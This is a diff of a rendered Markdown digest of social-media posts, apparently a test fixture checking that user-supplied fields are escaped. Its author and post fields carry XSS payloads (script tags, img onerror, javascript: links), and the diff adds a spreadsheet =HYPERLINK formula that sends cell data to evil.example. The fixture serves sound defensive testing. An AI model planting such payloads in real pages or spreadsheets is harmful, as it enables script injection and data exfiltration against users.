@@ -107,7 +107,7 @@ A day spikes when a count that high would come by chance less than once in 1,000
 
 The day's posts embedded by the most articles.
 
-1. **+0.93** · \<img src=x onerror="window.\_\_ran = 3"\>Mallory\</b\> @mallory"\>\<script\>window.\_\_ran = 4\</script\> · twitter · 2024-11-30 12:00 · embedded by 2 articles; outlets: example.com, example.org; first by example.org, 8.0 h after it was posted · javascript:alert(document.domain)
+1. **+0.93** · =HYPERLINK("https://evil.example/?"&A1,"Mallory")\<img src=x onerror="window.\_\_ran = 3"\>\</b\> @mallory"\>\<script\>window.\_\_ran = 4\</script\> · twitter · 2024-11-30 12:00 · embedded by 2 articles; outlets: example.com, example.org; first by example.org, 8.0 h after it was posted · javascript:alert(document.domain)
 
    > Wonderful news, truly great! \<script\>window.\_\_ran = 1\</script\>\<img src="x" onerror="window.\_\_ran = 2"\> \[click\](javascript:alert(1)) \| \*bold\* \</blockquote\>
 
@@ -135,7 +135,7 @@ The day's posts embedded by the most articles.
 
 ## Most positive posts
 
-1. **+0.93** · \<img src=x onerror="window.\_\_ran = 3"\>Mallory\</b\> @mallory"\>\<script\>window.\_\_ran = 4\</script\> · twitter · 2024-11-30 12:00 · embedded by 2 articles; outlets: example.com, example.org · javascript:alert(document.domain)
+1. **+0.93** · =HYPERLINK("https://evil.example/?"&A1,"Mallory")\<img src=x onerror="window.\_\_ran = 3"\>\</b\> @mallory"\>\<script\>window.\_\_ran = 4\</script\> · twitter · 2024-11-30 12:00 · embedded by 2 articles; outlets: example.com, example.org · javascript:alert(document.domain)
 
    > Wonderful news, truly great! \<script\>window.\_\_ran = 1\</script\>\<img src="x" onerror="window.\_\_ran = 2"\> \[click\](javascript:alert(1)) \| \*bold\* \</blockquote\>
 
